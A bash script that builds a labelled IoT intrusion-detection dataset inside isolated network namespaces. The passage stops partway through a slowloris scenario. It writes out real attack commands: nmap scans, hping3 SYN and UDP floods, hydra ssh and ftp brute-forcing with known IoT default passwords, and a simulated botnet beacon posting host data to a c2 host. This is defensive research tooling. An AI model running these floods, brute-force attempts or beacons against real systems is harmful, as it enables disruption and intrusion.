#!/usr/bin/env bash
# gatewatch lab dataset builder.
#
# Builds labelled packet captures of benign IoT traffic and of real attack tools, all inside
# Linux network namespaces on this machine: a gateway namespace holding a bridge (the capture
# point) and one namespace per host on 10.99.0.0/24. No packet leaves the namespaces.
# Run `bash models/data/lab.sh --help` for the options; models/data/README.md describes the
# output. Needs root (namespaces, raw sockets, apt-get).

set -uo pipefail

SELF=$(readlink -f "${BASH_SOURCE[0]}")
# The lab's topology comes in variants, so that training sees more than one network and a
# variant no training capture has can be held out: addresses and subnet, MTU, round trips and
# jitter of the internet side, and the pace of the devices' own traffic differ. The variant
# travels to the role processes (`lab.sh __role`) in the environment.
VARIANT=${GWLAB_VARIANT:-home}
case $VARIANT in
    home) # the original lab: 10.99.0.0/24, Ethernet MTU, 16-70 ms round trips
        NET=10.99.0 NET6=fd00:99: MTU=1500 WAN_MIN=8 WAN_SPAN=28 WAN_JITTER=3 TEMPO=100 GAP=100
        read -r H_CAM H_SENSOR H_BROKER H_LAPTOP H_ATTACKER H_DNS H_C2 H_WEB <<<"10 11 12 20 66 200 201 202" ;;
    office) # a /24 of 192.168, MTU 1400 (a tunnelled uplink), 40-120 ms, slower devices, faster floods
        NET=192.168.50 NET6=fd00:50: MTU=1400 WAN_MIN=20 WAN_SPAN=41 WAN_JITTER=5 TEMPO=160 GAP=60
        read -r H_CAM H_SENSOR H_BROKER H_LAPTOP H_ATTACKER H_DNS H_C2 H_WEB <<<"101 102 2 150 77 53 99 180" ;;
    campus) # 10.20.30.0/24, a LAN-like 4-20 ms, flood rates spread over 0.5-3x per capture
        NET=10.20.30 NET6=fd00:1020: MTU=1500 WAN_MIN=2 WAN_SPAN=9 WAN_JITTER=1 TEMPO=120 GAP=250 SPREAD=1
        read -r H_CAM H_SENSOR H_BROKER H_LAPTOP H_ATTACKER H_DNS H_C2 H_WEB <<<"40 41 30 120 13 250 251 252" ;;
    isp) # held out from training: 172.20.7.0/24, PPPoE's MTU 1492, 80-240 ms, busier devices, slower floods
        NET=172.20.7 NET6=fd00:172:20: MTU=1492 WAN_MIN=40 WAN_SPAN=81 WAN_JITTER=8 TEMPO=60 GAP=180
        read -r H_CAM H_SENSOR H_BROKER H_LAPTOP H_ATTACKER H_DNS H_C2 H_WEB <<<"21 37 5 64 250 1 140 141" ;;
    *) printf 'lab.sh: unknown variant %s (home, office, campus or isp)\n' "$VARIANT" >&2; exit 2 ;;
esac
SPREAD=${SPREAD:-0}
export GWLAB_VARIANT=$VARIANT
CAM=$NET.$H_CAM           # IoT camera: HTTP, sshd, ftp
SENSOR=$NET.$H_SENSOR     # CoAP sensor
BROKER=$NET.$H_BROKER     # mosquitto; also the "controller" that polls the devices
DNS=$NET.$H_DNS           # dnsmasq
C2=$NET.$H_C2             # external host / command-and-control
WEB=$NET.$H_WEB           # external web site (HTTP and HTTPS) the laptop browses
LAPTOP=$NET.$H_LAPTOP     # a user's laptop behind the gateway: web browsing and video
# The laptop and the web site also speak IPv6, as most home networks and big sites do.
LAPTOP6=$NET6:14
WEB6=$NET6:ca
ATTACKER=$NET.$H_ATTACKER

usage() {
    cat <<'EOF'
Usage: bash models/data/lab.sh [--out DIR] [--seeds N] [--quick] [--agent PATH] [--variant NAME]
                               [--only NAME[,NAME...]] [--no-install] [--benign-seconds LOW-HIGH]

Builds labelled captures (pcap) of benign IoT traffic and of attacks made by real tools
(nmap, hping3, hydra, slowhttptest, mosquitto_pub, coap-client, curl, nc) inside Linux
network namespaces. Must run as root. Traffic stays inside the namespaces it creates.

Topology: namespace "gw" holds bridge br0, the capture point; hosts on 10.99.0.0/24:
camera .10 (HTTP, ssh, ftp), sensor .11 (CoAP), broker .12 (MQTT; also polls the
devices), laptop .20 (a user browsing), dns .200 (dnsmasq), c2 .201 (external host),
web .202 (HTTP and HTTPS site, also on IPv6), attacker .66. dns, c2 and web are the
internet side: bridge wan0, reached through a relay with 16-70 ms round trips (wan.py).
Every scenario has benign background traffic (MQTT telemetry, CoAP GETs, HTTP polling,
DNS lookups, an occasional admin ssh session and anonymous ftp download, web browsing
with parallel asset downloads, video segments and feed polling).

Options:
  --out DIR     output folder (default: /var/cache/gatewatch-lab); receives
                lab-s<SEED>-<SCENARIO>.pcap, labels.csv and, with --agent, one .csv of
                flow features per capture
  --seeds N     build seeds 1..N; each seed varies timing and intensity (default 4)
  --quick       one seed, short scenarios (about 2-3 minutes in all)
  --agent PATH  a gatewatch-agent binary: also extract labelled flow features per capture
  --variant NAME
                topology: home (10.99.0.0/24, MTU 1500, 16-70 ms round trips; the default),
                office (192.168.50.0/24, MTU 1400, 40-120 ms, other host numbers, slower
                device traffic, faster floods), campus (10.20.30.0/24, 4-20 ms, flood rates
                spread 0.5-3x around a slower base) or isp (172.20.7.0/24, MTU 1492,
                80-240 ms, busier devices, slower floods: the variant held out from training)
  --only LIST   comma-separated scenario names to build (default: all)
  --no-install  do not apt-get missing packages (scenarios whose tools miss are skipped)
  --benign-seconds LOW-HIGH
                length of the benign scenario, drawn per seed (default 240-360); longer
                captures give the devices' benign traffic more windows
  -h, --help    this text

Scenarios: benign scan_syn scan_udp scan_connect dos_syn_flood dos_udp_flood brute_ssh
brute_ftp slow_http mqtt_flood coap_flood beacon exfil

labels.csv columns: capture,scenario,family,attackers,window_start,window_end,seed,packets
Ground truth: a flow with one of `attackers` at either end that overlaps
[window_start, window_end] (Unix seconds) belongs to `family`; every other flow is benign.
EOF
}

log() { printf '%s\n' "$*" >&2; }
die() { log "lab.sh: $*"; exit 1; }

# Sleeps a seeded random time between $1 and $2 milliseconds.
rsleep() {
    local lo=$1 hi=$2 ms
    ms=$(((lo + RANDOM % (hi - lo + 1)) * TEMPO / 100))
    sleep "$((ms / 1000)).$(printf '%03d' $((ms % 1000)))"
}

now() { printf '%s' "$EPOCHREALTIME"; }

# ---------------------------------------------------------------------------------------
# Roles: run inside a namespace as `lab.sh __role NAME WORKDIR SEED [ARGS...]`.
# Each loops until killed by the caller (and is also wrapped in `timeout`).
# ---------------------------------------------------------------------------------------

role_cam_telemetry() { # camera -> broker: one short MQTT connection per status message
    local i=0
    while :; do
        i=$((i + 1))
        timeout 5 mosquitto_pub -h "$BROKER" -i "cam01-$i" -q $((RANDOM % 2)) -t lab/camera/status \
            -m "{\"seq\":$i,\"motion\":$((RANDOM % 2)),\"fps\":$((10 + RANDOM % 20))}" >/dev/null 2>&1
        rsleep 700 3000
    done
}

role_cam_commands() { # camera keeps one subscription open, pinging every few seconds
    timeout 300 mosquitto_sub -h "$BROKER" -i cam01-cmd -k $((4 + RANDOM % 6)) -t lab/camera/cmd >/dev/null 2>&1
}

role_sensor_stream() { # sensor publishes readings over one long-lived MQTT connection
    local i=0 seed=$RANDOM
    {
        RANDOM=$seed # the left side of a pipe is a subshell, where bash reseeds $RANDOM
        while :; do
            i=$((i + 1))
            printf '{"seq":%d,"temp":%d.%d,"hum":%d}\n' "$i" $((18 + RANDOM % 8)) $((RANDOM % 10)) $((30 + RANDOM % 40))
            rsleep 500 2500
        done
    } | timeout 300 mosquitto_pub -h "$BROKER" -i sensor07 -k 10 -t lab/sensor/env -l >/dev/null 2>&1
}

role_dns_client() { # DNS lookups of the names an IoT device would ask for
    local names=(broker.lab cam.lab sensor.lab time.vendor.lab fw.vendor.lab api.vendor.lab nosuch.lab)
    while :; do
        timeout 3 dig @"$DNS" +time=1 +tries=1 +short "${names[RANDOM % ${#names[@]}]}" >/dev/null 2>&1
        rsleep 1000 4000
    done
}

role_controller() { # broker host polls the camera (HTTP) and sensor (CoAP), sends commands
    local paths=(/status.json /status.json /status.json /snapshot.jpg /index.html)
    local coap=(time example_data time .well-known/core)
    while :; do
        case $((RANDOM % 4)) in
            0 | 1) timeout 5 curl -s -o /dev/null -m 4 "http://$CAM${paths[RANDOM % ${#paths[@]}]}" ;;
            2) timeout 5 coap-client-notls -m get -B 3 "coap://$SENSOR/${coap[RANDOM % ${#coap[@]}]}" >/dev/null 2>&1 ;;
            3) timeout 5 mosquitto_pub -h "$BROKER" -i ctl-$RANDOM -t lab/camera/cmd -m "{\"cmd\":\"ping\"}" >/dev/null 2>&1 ;;
        esac
        rsleep 300 1500
    done
}

role_admin() { # occasional admin work on the camera: ssh command, anonymous ftp download
    local work=$1
    rsleep 500 4000
    while :; do
        if ((RANDOM % 2)); then
            timeout 10 ssh -i "$work/admin_key" -o BatchMode=yes -o StrictHostKeyChecking=no \
                -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 -o LogLevel=ERROR \
                "root@$CAM" 'uptime; df -h /' >/dev/null 2>&1
        else
            timeout 10 curl -s -o /dev/null -m 8 "ftp://$CAM/firmware.bin" >/dev/null 2>&1
        fi
        rsleep 4000 9000
    done
}

role_browse() { # laptop: a browser visiting the web site (models/data/browser.py)
    exec /usr/bin/python3 "$(dirname "$SELF")/browser.py" "$WEB" "$WEB6" "$DNS" "$1/site" "$RANDOM"
}

role_beacon() { # infected camera: periodic check-in with the c2 host (labelled botnet_c2)
    local port=$2 period=$3 jitter=$4 i=0
    while :; do
        i=$((i + 1))
        timeout 3 dig @"$DNS" +time=1 +tries=1 +short update.cdn-sync.example >/dev/null 2>&1
        if ((RANDOM % 4)); then
            timeout 5 curl -s -o /dev/null -m 4 -A "Mozilla/5.0" "http://$C2:$port/gate.php?id=cam01&n=$i"
        else
            timeout 5 curl -s -o /dev/null -m 4 -A "Mozilla/5.0" \
                --data "id=cam01&n=$i&up=$((RANDOM * 7))&load=0.$((RANDOM % 100))" "http://$C2:$port/gate.php"
        fi
        rsleep $((period - jitter)) $((period + jitter))
    done
}

run_role() { # NAME WORKDIR SEED [ARGS...]; each role gets WORKDIR ARGS...
    local name=$1 work=$2 seed=$3
    shift 3
    RANDOM=$seed
    "role_$name" "$work" "$@"
}

# ---------------------------------------------------------------------------------------
# Namespaces and services
# ---------------------------------------------------------------------------------------

PREFIX=gwlab$$
GW=${PREFIX}-gw
declare -A HOSTNS=([camera]=$CAM [sensor]=$SENSOR [broker]=$BROKER [dns]=$DNS [c2]=$C2 [attacker]=$ATTACKER
    [laptop]=$LAPTOP [web]=$WEB)
BG_PIDS=()
CAP_PID=
WORK=

ns() { printf '%s-%s' "$PREFIX" "$1"; }
in_ns() { local n=$1; shift; ip netns exec "$(ns "$n")" "$@"; }

cleanup() {
    local rc=$? n pids
    trap - EXIT INT TERM
    [[ -n $CAP_PID ]] && kill -INT "$CAP_PID" 2>/dev/null
    for pid in "${BG_PIDS[@]}"; do kill "$pid" 2>/dev/null; done
    for n in "$GW" $(for h in "${!HOSTNS[@]}"; do ns "$h"; printf ' '; done); do
        ip netns list 2>/dev/null | grep -q "^$n\b" || continue
        pids=$(ip netns pids "$n" 2>/dev/null)
        if [[ -n $pids ]]; then
            # shellcheck disable=SC2086  # word splitting of the pid list is wanted
            kill $pids 2>/dev/null
            sleep 0.5
            pids=$(ip netns pids "$n" 2>/dev/null)
            # shellcheck disable=SC2086
            [[ -n $pids ]] && kill -9 $pids 2>/dev/null
        fi
        ip netns del "$n" 2>/dev/null
    done
    [[ -n $WORK && -d $WORK ]] && rm -rf "$WORK"
    exit "$rc"
}

# Namespaces left by a run of this script that was killed (its pid is gone).
remove_stale() {
    local n pid pids
    while read -r n _; do
        [[ $n =~ ^gwlab([0-9]+)- ]] || continue
        pid=${BASH_REMATCH[1]}
        # Still running (a killed run can linger as a zombie, whose cmdline is empty)?
        grep -qs lab.sh "/proc/$pid/cmdline" && continue
        pids=$(ip netns pids "$n" 2>/dev/null)
        # shellcheck disable=SC2086
        [[ -n $pids ]] && kill -9 $pids 2>/dev/null
        ip netns del "$n" 2>/dev/null && log "removed stale namespace $n"
    done < <(ip netns list 2>/dev/null)
}

make_topology() {
    local h addr i=0
    ip netns add "$GW" || die "cannot create namespace $GW"
    ip -n "$GW" link set lo up
    ip -n "$GW" link add br0 type bridge
    ip netns exec "$GW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$GW" link set br0 up
    # The internet side: dns, c2 and web sit on bridge wan0, which reaches br0 only through
    # two TAP devices relayed by wan.py with a round-trip delay (see start_wan).
    ip -n "$GW" link add wan0 type bridge
    ip -n "$GW" link set wan0 up
    ip -n "$GW" tuntap add wanl mode tap || die "cannot create TAP devices (is /dev/net/tun there?)"
    ip -n "$GW" tuntap add wanw mode tap || die "cannot create TAP devices"
    ip -n "$GW" link set wanl mtu "$MTU" master br0 up
    ip -n "$GW" link set wanw mtu "$MTU" master wan0 up
    for h in camera sensor broker dns c2 attacker laptop web; do
        addr=${HOSTNS[$h]}
        i=$((i + 1))
        ip netns add "$(ns "$h")" || die "cannot create namespace $(ns "$h")"
        [[ $h == laptop || $h == web ]] ||
            in_ns "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
        # Targets answer closed UDP ports like small devices do, without Linux's 1/s limit.
        in_ns "$h" sysctl -qw net.ipv4.icmp_ratelimit=50
        ip -n "$GW" link add "p$i-$h" type veth peer name eth0 netns "$(ns "$h")" ||
            die "cannot create veth for $h"
        case $h in
            dns | c2 | web) ip -n "$GW" link set "p$i-$h" mtu "$MTU" master wan0 up ;;
            *) ip -n "$GW" link set "p$i-$h" mtu "$MTU" master br0 up ;;
        esac
        # No segmentation offload: the capture must hold wire-sized packets, as a real
        # gateway would see, not 64 KB super-packets that only exist inside the kernel.
        if command -v ethtool >/dev/null 2>&1; then
            ip netns exec "$GW" ethtool -K "p$i-$h" tso off gso off gro off >/dev/null 2>&1
            in_ns "$h" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1
        fi
        ip -n "$(ns "$h")" link set lo up
        ip -n "$(ns "$h")" addr add "$addr/24" dev eth0
        ip -n "$(ns "$h")" link set eth0 address "02:00:0a:63:00:$(printf '%02x' "${addr##*.}")"
        ip -n "$(ns "$h")" link set eth0 mtu "$MTU" up
        [[ $h == laptop ]] && ip -n "$(ns "$h")" addr add "$LAPTOP6/64" dev eth0 nodad
        [[ $h == web ]] && ip -n "$(ns "$h")" addr add "$WEB6/64" dev eth0 nodad
        if [[ $h == web ]]; then
            # The web site's own link: 30 Mbit/s down and 8 up.
            in_ns web tc qdisc add dev eth0 root tbf rate 30mbit burst 32kb latency 200ms 2>/dev/null ||
                log "warning: no tbf qdisc: the web site's link is not shaped"
            ip netns exec "$GW" tc qdisc add dev "p$i-$h" root tbf rate 8mbit burst 16kb latency 200ms 2>/dev/null
        fi
    done
    # Wait until the bridge forwards (broker to camera answers a ping).
    for _ in $(seq 1 30); do
        in_ns broker ping -c1 -W1 "$CAM" >/dev/null 2>&1 && return 0
        sleep 0.3
    done
    die "the lab network does not forward packets"
}

# Relays frames between the LAN and the internet side with a seeded one-way delay of
# 8-35 ms (round trips of 16-70 ms, the range reddit.pcap shows) and up to 3 ms of jitter;
# the web site's initial receive window changes with it.
WAN_PID=
start_wan() { # seed
    local one_way rwnd
    one_way=$((WAN_MIN + $1 % WAN_SPAN))
    # Servers on the internet open with different receive windows (in segments).
    rwnd=$((10 + $1 % 35))
    in_ns web ip route change "$NET.0/24" dev eth0 initrwnd "$rwnd"
    in_ns web ip -6 route change "$NET6:/64" dev eth0 metric 256 initrwnd "$rwnd"
    ip netns exec "$GW" /usr/bin/python3 "$(dirname "$SELF")/wan.py" wanl wanw "$one_way" "$WAN_JITTER" "$1" \
        >>"$WORK/wan.log" 2>&1 &
    WAN_PID=$!
    for _ in $(seq 1 30); do
        in_ns camera ping -c1 -W1 "$C2" >/dev/null 2>&1 && return 0
        sleep 0.2
    done
    die "the internet side of the lab does not answer (see $WORK/wan.log)"
}
stop_wan() {
    [[ -n $WAN_PID ]] && kill "$WAN_PID" 2>/dev/null && wait "$WAN_PID" 2>/dev/null
    WAN_PID=
}

certificate_chain() { # DIR: web.crt (leaf + intermediate, as a real site serves them) and web.key
    # A real site's handshake carries a chain of 2.5-4 KB (reddit.pcap: 3.6 KB in 4 segments);
    # a lone self-signed certificate is a third of that, and the server's first flight is what
    # a browser's abandoned connections answer with one reset per segment.
    local d=$1 sans="DNS:www.news.example" i
    for ((i = 0; i < 6 + RANDOM % 25; i++)); do sans+=",DNS:s$i.cdn.news.example"; done
    openssl req -x509 -newkey rsa:4096 -nodes -days 2 -subj "/C=US/O=Example Trust/CN=Example Root CA" \
        -keyout "$d/ca.key" -out "$d/ca.crt" >/dev/null 2>&1
    openssl req -newkey rsa:2048 -nodes -subj "/C=US/O=Example Trust/CN=Example TLS RSA CA 2026" \
        -keyout "$d/int.key" -out "$d/int.csr" >/dev/null 2>&1
    openssl x509 -req -in "$d/int.csr" -CA "$d/ca.crt" -CAkey "$d/ca.key" -CAcreateserial -days 2 -out "$d/int.crt" \
        -extfile <(printf '%s\n' "basicConstraints=critical,CA:true,pathlen:0" "keyUsage=critical,keyCertSign,cRLSign" \
            "authorityInfoAccess=OCSP;URI:http://ocsp.trust.example" \
            "crlDistributionPoints=URI:http://crl.trust.example/root.crl" "certificatePolicies=2.23.140.1.2.2") \
        >/dev/null 2>&1
    openssl req -newkey rsa:2048 -nodes -subj "/C=US/ST=California/O=News Example Inc./CN=www.news.example" \
        -keyout "$d/web.key" -out "$d/web.csr" >/dev/null 2>&1
    openssl x509 -req -in "$d/web.csr" -CA "$d/int.crt" -CAkey "$d/int.key" -CAcreateserial -days 2 \
        -out "$d/leaf.crt" -extfile <(printf '%s\n' "subjectAltName=$sans" "extendedKeyUsage=serverAuth,clientAuth" \
            "basicConstraints=critical,CA:false" "keyUsage=critical,digitalSignature,keyEncipherment" \
            "authorityInfoAccess=OCSP;URI:http://ocsp.trust.example,caIssuers;URI:http://cacerts.trust.example/ca.crt" \
            "crlDistributionPoints=URI:http://crl.trust.example/tlsca2026.crl" "certificatePolicies=2.23.140.1.2.2") \
        >/dev/null 2>&1
    cat "$d/leaf.crt" "$d/int.crt" >"$d/web.crt"
}

write_files() {
    local w=$WORK
    mkdir -p "$w/www" "$w/ftp"
    head -c $((60000 + RANDOM * 3)) /dev/urandom >"$w/www/snapshot.jpg"
    printf '<html><body><h1>IPCam 3000</h1><img src="/snapshot.jpg"></body></html>\n' >"$w/www/index.html"
    printf '{"model":"ipcam-3000","fw":"2.4.1","uptime":%d,"rec":true}\n' "$RANDOM" >"$w/www/status.json"
    head -c 400000 /dev/urandom >"$w/ftp/firmware.bin"
    chmod 755 "$w" "$w/ftp" "$w/www"
    chmod 644 "$w/ftp/firmware.bin"

    cat >"$w/mosquitto.conf" <<EOF
listener 1883 $BROKER
allow_anonymous true
persistence false
log_dest none
max_connections -1
EOF

    ssh-keygen -q -t ed25519 -N '' -f "$w/ssh_host_key" >/dev/null
    ssh-keygen -q -t ed25519 -N '' -f "$w/admin_key" >/dev/null
    cp "$w/admin_key.pub" "$w/authorized_keys"
    chmod 644 "$w/authorized_keys"
    cat >"$w/sshd_config" <<EOF
ListenAddress $CAM
Port 22
HostKey $w/ssh_host_key
PidFile $w/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
AuthorizedKeysFile $w/authorized_keys
StrictModes no
MaxStartups 100:30:200
LoginGraceTime 15
EOF

    cat >"$w/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$CAM
background=NO
anonymous_enable=YES
anon_root=$w/ftp
no_anon_password=YES
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
seccomp_sandbox=NO
secure_chroot_dir=/var/run/vsftpd/empty
xferlog_enable=NO
max_clients=200
max_per_ip=50
delay_failed_login=0
max_login_fails=3
EOF

    # The web site the laptop browses: pages, each with its list of assets, a feed, video.
    local k n size j
    mkdir -p "$w/site/assets" "$w/site/video" "$w/site/api"
    for ((k = 0; k < 48; k++)); do
        pick size 2000 6000 15000 40000 90000 250000
        head -c $((size + RANDOM % size)) /dev/urandom >"$w/site/assets/a$k.bin"
    done
    for ((k = 0; k < 16; k++)); do
        head -c $((8000 + RANDOM * 3)) /dev/urandom >"$w/site/page$k.html"
        # Light pages of 4-25 assets and heavy ones of 20-119, as a news site's front page.
        if ((k % 2)); then n=$((20 + RANDOM % 100)); else n=$((4 + RANDOM % 22)); fi
        for ((j = 0; j < n; j++)); do printf 'assets/a%d.bin\n' $((RANDOM % 48)); done >"$w/site/page$k.txt"
    done
    for ((k = 0; k < 4; k++)); do head -c $((1000000 + RANDOM * 150)) /dev/urandom >"$w/site/video/seg$k.bin"; done
    head -c 3000 /dev/urandom >"$w/site/api/feed.json"
    chmod -R a+rX "$w/site"
    certificate_chain "$w"
    cat >"$w/web.py" <<'EOF'
import functools, random, socket, ssl, sys, threading, time
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

class Site(SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    # A real site's server takes a moment to answer (the network delay is wan.py's).
    def think(self):
        time.sleep(random.uniform(0.005, 0.06))

    def send_head(self):
        self.think()
        return super().send_head()

    def do_POST(self):  # analytics beacons and uploads: read, acknowledge
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.think()
        body = b'{"ok":true}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

class DualStack(ThreadingHTTPServer):
    address_family = socket.AF_INET6

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()

root, cert, key = sys.argv[1:4]
handler = functools.partial(Site, directory=root)
plain = DualStack(("::", 80), handler)
tls = DualStack(("::", 443), handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
tls.socket = context.wrap_socket(tls.socket, server_side=True)
threading.Thread(target=plain.serve_forever, daemon=True).start()
tls.serve_forever()
EOF

    # The c2 host: answers beacons and swallows uploads on several ports.
    cat >"$w/c2.py" <<'EOF'
import sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

class C2(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def reply(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def drain(self):
        left = int(self.headers.get("Content-Length") or 0)
        while left > 0:
            chunk = self.rfile.read(min(left, 65536))
            if not chunk:
                break
            left -= len(chunk)

    def do_GET(self):
        self.reply(b'{"task":"sleep","interval":30}')

    def do_POST(self):
        self.drain()
        self.reply(b'{"ok":true}')

    do_PUT = do_POST

servers = [ThreadingHTTPServer((sys.argv[1], int(p)), C2) for p in sys.argv[2:]]
for s in servers[1:]:
    threading.Thread(target=s.serve_forever, daemon=True).start()
servers[0].serve_forever()
EOF
}

# Starts a long-running service in a namespace (bounded by timeout), remembering its pid.
service() {
    local h=$1
    shift
    in_ns "$h" timeout "$MAX_RUN" "$@" >>"$WORK/services.log" 2>&1 &
    BG_PIDS+=($!)
}

wait_port() { # host proto addr port
    local h=$1 proto=$2 addr=$3 port=$4 opt=-ltn
    [[ $proto == udp ]] && opt=-lun
    for _ in $(seq 1 50); do
        in_ns "$h" ss "$opt" 2>/dev/null | grep -q "$addr:$port\b" && return 0
        sleep 0.1
    done
    log "warning: $proto $addr:$port did not come up in namespace $h"
    return 1
}

start_services() {
    local w=$WORK
    mkdir -p /run/sshd
    chmod 755 /run/sshd
    service broker mosquitto -c "$w/mosquitto.conf"
    service dns dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --bind-interfaces \
        --listen-address="$DNS" --pid-file="$w/dnsmasq.pid" --local=/lab/ --local=/example/ \
        --address=/broker.lab/"$BROKER" --address=/cam.lab/"$CAM" --address=/sensor.lab/"$SENSOR" \
        --address=/time.vendor.lab/"$DNS" --address=/fw.vendor.lab/"$DNS" --address=/api.vendor.lab/"$DNS" \
        --address=/update.cdn-sync.example/"$C2" --address=/news.example/"$WEB" \
        --address=/news.example/"$WEB6"
    service camera /usr/bin/python3 -m http.server 80 --bind "$CAM" --directory "$w/www"
    service camera /usr/sbin/sshd -D -e -f "$w/sshd_config"
    service camera vsftpd "$w/vsftpd.conf"
    service sensor coap-server-notls -A "$SENSOR" -p 5683
    service c2 /usr/bin/python3 "$w/c2.py" "$C2" 80 443 8080
    service c2 nc -lk "$C2" 4444
    service web /usr/bin/python3 "$w/web.py" "$w/site" "$w/web.crt" "$w/web.key"
    wait_port broker tcp "$BROKER" 1883
    wait_port dns udp "$DNS" 53
    wait_port camera tcp "$CAM" 80
    wait_port camera tcp "$CAM" 22
    wait_port camera tcp "$CAM" 21
    wait_port sensor udp "$SENSOR" 5683
    wait_port c2 tcp "$C2" 8080
    wait_port c2 tcp "$C2" 4444
    wait_port web tcp '\*' 443
}

# ---------------------------------------------------------------------------------------
# Scenarios. Each attack function runs the attack in the foreground, bounded in count and
# time; the globals FAMILY and ATTACKERS describe it. $RANDOM is seeded per scenario.
# ---------------------------------------------------------------------------------------

# Random choices set variables: a command substitution would run in a subshell, and bash
# reseeds $RANDOM there, which would make runs differ.
pick() { # VAR CHOICE...
    local _v=$1
    shift
    printf -v "$_v" '%s' "${@:RANDOM % $# + 1:1}"
}
scale() { # VAR QUICK_VALUE FULL_LOW FULL_HIGH
    if ((QUICK)); then printf -v "$1" '%s' "$2"; else printf -v "$1" '%s' $(($3 + RANDOM % ($4 - $3 + 1))); fi
}

attack_benign() {
    FAMILY=benign ATTACKERS=""
    local s
    scale s 4 "$BENIGN_LOW" "$BENIGN_HIGH"
    sleep "$s"
}

attack_scan_syn() {
    FAMILY=scan ATTACKERS=$ATTACKER
    local ports targets speed
    scale ports 600 400 2000
    pick targets "$CAM" "$CAM" "$NET.$H_CAM,$H_SENSOR,$H_BROKER" "$NET.$H_CAM,$H_BROKER"
    pick speed 3 4 4 5
    in_ns attacker timeout 40 nmap -sS -Pn -n -T"$speed" --max-retries 1 \
        --host-timeout 30s -p "1-$ports" "$targets" >>"$WORK/attack.log" 2>&1
}

attack_scan_udp() {
    FAMILY=scan ATTACKERS=$ATTACKER
    local targets high
    pick targets "$SENSOR" "$CAM" "$NET.$H_CAM,$H_SENSOR" "$DNS"
    scale high 10010 10005 10040
    in_ns attacker timeout 40 nmap -sU -Pn -n -T4 --max-retries 1 --host-timeout 25s \
        -p "53,67-69,111,123,137,161,162,500,514,520,1434,1900,5060,5353,5683,5684,10000-$high" \
        "$targets" >>"$WORK/attack.log" 2>&1
}

attack_scan_connect() {
    FAMILY=scan ATTACKERS=$ATTACKER
    local ports targets speed
    scale ports 400 300 1500
    pick targets "$CAM" "$BROKER" "$NET.$H_CAM,$H_SENSOR,$H_BROKER"
    pick speed 3 4 4
    in_ns attacker timeout 40 nmap -sT -Pn -n -T"$speed" --max-retries 1 --host-timeout 30s \
        -p "1-$ports" "$targets" >>"$WORK/attack.log" 2>&1
}

attack_dos_syn_flood() {
    FAMILY=dos_ddos ATTACKERS=$ATTACKER
    local target port count gap
    pick target "$CAM" "$CAM" "$BROKER"
    pick port 80 80 22 1883
    [[ $target == "$BROKER" ]] && port=1883
    scale count 3000 2000 6000
    pick gap 100 200 300 500
    gap=$((gap * GAP / 100))
    ((SPREAD)) && gap=$((gap * (50 + RANDOM % 251) / 100))
    in_ns attacker timeout 30 hping3 -q -S -p "$port" -c "$count" -i "u$gap" "$target" >>"$WORK/attack.log" 2>&1
}

attack_dos_udp_flood() {
    FAMILY=dos_ddos ATTACKERS=$ATTACKER
    local size count gap target
    # Three legs in turn: two services, then a random device on a random high port. The pair
    # walks the list with the seed ($seed is run_scenario's), so each service is flooded in
    # some capture whichever seed is held out; a model that saw only some ports called a
    # flood on the DNS port benign, next to the real lookups there. Not CoAP's port: a flood
    # of CoAP requests is the iot_flood scenario.
    local services=("$CAM:554" "$CAM:1900" "$BROKER:53" "$SENSOR:161")
    local first=$((seed % ${#services[@]})) high
    pick high "$CAM" "$BROKER" "$SENSOR"
    high+=":$((1024 + RANDOM % 60000))"
    pick size 32 64 256 512
    scale count 3000 2000 6000
    pick gap 100 200 300 500
    gap=$((gap * GAP / 100))
    ((SPREAD)) && gap=$((gap * (50 + RANDOM % 251) / 100))
    for target in "${services[first]}" "${services[(first + 1) % ${#services[@]}]}" "$high"; do
        in_ns attacker timeout 12 hping3 -q --udp -p "${target#*:}" -d "$size" -c $((count / 3)) -i "u$gap" \
            "${target%:*}" >>"$WORK/attack.log" 2>&1
    done
}

wordlist() { # writes users.txt and passwords.txt (a few common ones + $1 seeded ones)
    local n=$1 i suffix
    printf '%s\n' admin root support >"$WORK/users.txt"
    printf '%s\n' 123456 password admin 12345 root default 1234 888888 xc3511 vizxv >"$WORK/passwords.txt"
    for ((i = 0; i < n; i++)); do
        pick suffix '' '!' 1 2024 cam
        printf 'pw%05d%s\n' "$RANDOM" "$suffix" >>"$WORK/passwords.txt"
    done
}

brute() { # service; sshd without PAM answers at once, vsftpd through PAM waits ~2 s per failure
    local n limit tasks
    if [[ $1 == ssh ]]; then scale n 30 20 80; else scale n 6 10 40; fi
    scale limit 12 15 22
    pick tasks 2 4 4 6
    wordlist "$n"
    (cd "$WORK" && in_ns attacker timeout "$limit" hydra -I -q -L users.txt -P passwords.txt \
        -t "$tasks" -w 5 "$1://$CAM" >>"$WORK/attack.log" 2>&1)
}

attack_brute_ssh() { FAMILY=brute_force ATTACKERS=$ATTACKER; brute ssh; }
attack_brute_ftp() { FAMILY=brute_force ATTACKERS=$ATTACKER; brute ftp; }

attack_slow_http() {
    FAMILY=slow_rate ATTACKERS=$ATTACKER
    local dur conns rate gap
    scale dur 8 10 18
    if ((RANDOM % 3)); then # slowloris: never-ending headers
        scale conns 150 100 400
